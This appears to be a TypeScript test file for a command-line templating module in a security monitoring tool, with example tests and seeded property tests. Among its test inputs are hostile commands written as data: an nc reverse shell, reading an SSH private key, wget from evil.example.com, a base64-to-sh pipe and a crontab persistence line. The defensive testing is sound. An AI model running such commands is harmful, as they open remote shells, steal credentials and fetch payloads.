// Command-line templates: examples, and properties over seeded random command lines (data never leaks into the
// template, substituting data of the same kind keeps the template, the output is bounded, nothing throws).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { seededRandom } from '@vigil/common';
import { commandLineTemplate, commandTemplate, directoryClass, pathTemplate, splitCommandLine, uncachedCommandTemplate } from './command-template.js';

test('examples', () => {
  const cases: [string[], string][] = [
    [['curl', '-s', '-o', '/tmp/x.sh', 'http://10.0.0.5:8080/a'], 'curl -s -o <path:/tmp> <url:http>'],
    [['/usr/bin/python3.11', '-m', 'pip', 'install', 'requests==2.31.0'], 'python<num>.<num> -m pip install requests==<num>'],
    [['ssh', '-p', '2222', 'deploy@10.1.2.3'], 'ssh -p <num> <user@host>'],
    [['nc', '-e', '/bin/sh', '203.0.113.9', '4444'], 'nc -e <path:/bin> <ip> <num>'],
    [['sh', '-c', 'echo aGVsbG8gd29ybGQgZnJvbSB2aWdpbA== | base64 -d | sh'], "sh -c 'echo <b64> | base64 -d | sh'"],
    [['git', 'commit', '-m', 'fix the parser for long lines'], 'git commit -m <str>'],
    [['docker', 'run', '--name=web-7f3a9c2e11', 'nginx:1.25'], 'docker run --name=web-<hex> nginx:<num>.<num>'],
    [['gcc', '-c', 'a.c', 'b.c', 'c.c', '-o', 'out.o', '-j8'], 'gcc -c <file.c>… -o <file.o> -j<num>'],
    [['kill', '-9', '1234'], 'kill -<num> <num>'],
    [['rm', '-rf', '/var/lib/app/cache/5f0c7f7e-1b2a-4c3d-9e8f-001122334455'], 'rm -rf <path:/var>'],
    [['dd', 'if=/dev/zero', 'of=/tmp/f', 'bs=1M', 'count=10'], 'dd if=<path:/dev> of=<path:/tmp> bs=<num> count=<num>'],
    [['openssl', 'dgst', '-sha256', 'deadbeefcafe0123456789'], 'openssl dgst -sha<num> <hex>'],
    [['wget', 'https://evil.example.com/x'], 'wget <url:https>'],
    [['ping', 'fe80::1'], 'ping <ip>'],
    [['cat', '/home/alice/.ssh/id_rsa'], 'cat <path:~>'],
  ];
  for (const [args, expected] of cases) assert.equal(commandTemplate(args), expected, args.join(' '));
});

test('command lines without argv split like a shell', () => {
  assert.deepEqual(splitCommandLine(`bash -c "echo 'a b' | nc -l 4444" 2>&1;ls`), ['bash', '-c', "echo 'a b' | nc -l 4444", '2>&1', ';', 'ls']);
  assert.equal(commandLineTemplate('crontab -l > /tmp/notevil && echo "* * * * * /tmp/evil.sh" > /tmp/persistevil'), 'crontab -l > <path:/tmp> && echo <str> > <path:/tmp>');
  assert.equal(commandLineTemplate('unterminated "quote here'), 'unterminated <str>');
});

test('paths keep their shape, not their data', () => {
  assert.equal(pathTemplate('/tmp/tmp.Xq3kRtZ9/a.out'), '/tmp/tmp.<rand>/a.out');
  assert.equal(pathTemplate('/home/bob/src/app/build/app'), '~/src/app/build/app');
  assert.equal(pathTemplate('/proc/4242/exe'), '/proc/<num>/exe');
  assert.equal(directoryClass('/tmp/.x/payload'), '/tmp');
  assert.equal(directoryClass('/dev/shm/x'), '/dev/shm');
  assert.equal(directoryClass('/usr/local/bin/tool'), '/usr/local');
  assert.equal(directoryClass('/home/alice/.local/bin/black'), '~/.local');
  assert.equal(directoryClass('relative/x'), '.');
});

// ---- properties ----

const random = seededRandom(11_2026);
const int = (n: number) => Math.floor(random() * n);
const pick = <T>(items: readonly T[]): T => items[int(items.length)]!;
const hex = (n: number) => Array.from({ length: n }, () => '0123456789abcdef'[int(16)]).join('');
const b64chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const generators: Record<string, () => string> = {
  number: () => String(int(1_000_000)),
  ipv4: () => `${1 + int(223)}.${int(256)}.${int(256)}.${1 + int(254)}`,
  ipv6: () => `2001:db8:${hex(4)}::${hex(3)}`,
  uuid: () => `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`,
  hex: () => `${hex(15)}${'0123456789'[int(10)]}`,
  base64: () => `${'Q'}${Array.from({ length: 20 + int(40) }, () => b64chars[int(64)]).join('')}a1==`,
  path: () => `/var/${pick(['log', 'lib', 'cache'])}/${hex(6)}/file${int(100)}`,
  url: () => `https://${pick(['a', 'b', 'cdn'])}.example.com/${hex(8)}?q=${int(99)}`,
  quoted: () => `${pick(['hello', 'fix', 'update'])} ${pick(['world', 'parser', 'docs'])} ${int(100)}`,
};
const skeletons = [
  (v: string) => ['curl', '-s', v],
  (v: string) => ['ssh', '-p', '22', v],
  (v: string) => ['/usr/bin/tool', '--input', v, '-v'],
  (v: string) => ['printf', '%s', v],
  (v: string) => ['python3', '-m', 'mod', v, v],
];
const kindsFor: Record<string, string[]> = { url: ['url'], quoted: ['quoted'] };

test('property: substituting data of the same kind keeps the template, and the data never appears in it', () => {
  for (let i = 0; i < 3000; i++) {
    const kind = pick(Object.keys(generators));
    const skeleton = pick(skeletons);
    const a = generators[kind]!();
    const b = generators[(kindsFor[kind] ?? [kind])[0]!]!();
    const ta = commandTemplate(skeleton(a));
    const tb = commandTemplate(skeleton(b));
    assert.equal(ta, tb, `${kind}: ${a} vs ${b}`);
    assert.ok(!ta.includes(a), `${kind} value ${a} leaked into ${ta}`);
  }
});

test('property: never throws, bounded output, deterministic, no digit runs outside placeholders', () => {
  const alphabet = 'ab/.-_=:"\' |;&$()<>{}[]\\\t\n0123456789AZ\u0000é😀';
  for (let i = 0; i < 3000; i++) {
    const args = Array.from({ length: 1 + int(60) }, () => Array.from({ length: int(i % 10 === 0 ? 900 : 30) }, () => alphabet[int(alphabet.length)]).join(''));
    const t = commandTemplate(args);
    assert.equal(commandTemplate(args), t);
    assert.ok(t.length <= 2 * 42 * 520, `bounded: ${t.length}`);
    assert.ok(t.split(' ').length <= 2 + 42 * 2 * 42, 'bounded tokens');
    const placeholders = /<(?:num|hex|uuid|ip|b64|str|rand|long|user@host|domain|url:[a-z0-9+.-]+|path:[^<> ]*|file\.[a-z]+(?:<num>[a-z]*)*)>/g;
    // Descriptor digits of redirections (2>&1, 0<) are shell syntax, not data.
    const redirections = /(^|[\s'])\d?(?:>>|>|<)&?\d?/g;
    assert.doesNotMatch(t.replace(placeholders, '').replace(redirections, '$1'), /\d/, `digits outside placeholders in ${t}`);
    const line = args.join(' ');
    assert.doesNotThrow(() => commandLineTemplate(line));
    assert.equal(commandLineTemplate(line), commandLineTemplate(line));
  }
});

test('equivalence: the token cache never changes a template (first sight, repeats, long tokens, after the cache is cleared)', () => {
  const alphabet = 'ab/.-_=:"\' |;&$()<>{}[]\\\t0123456789AZé😀';
  const pool = [
    ...Array.from({ length: 300 }, () => generators[pick(Object.keys(generators))]!()),
    ...Array.from({ length: 300 }, () => Array.from({ length: 1 + int(40) }, () => alphabet[int(alphabet.length)]).join('')),
    ...Array.from({ length: 20 }, () => `--data=${hex(120 + int(300))}`),
    '', '-', '--', '-9', 'sh -c', 'echo hi | nc 10.0.0.1 4444',
  ];
  // 30,000 distinct fresh tokens as well: more than the cache holds, so it is cleared and refilled on the way.
  for (let i = 0; i < 30_000; i++) {
    const args = [pick(['curl', '/usr/bin/python3.11', 'sh', 'ls'])];
    for (let n = int(12); n > 0; n--) args.push(random() < 0.7 ? pick(pool) : `${pick(pool)}${i}`);
    assert.equal(commandTemplate(args), uncachedCommandTemplate(args), JSON.stringify(args));
  }
});
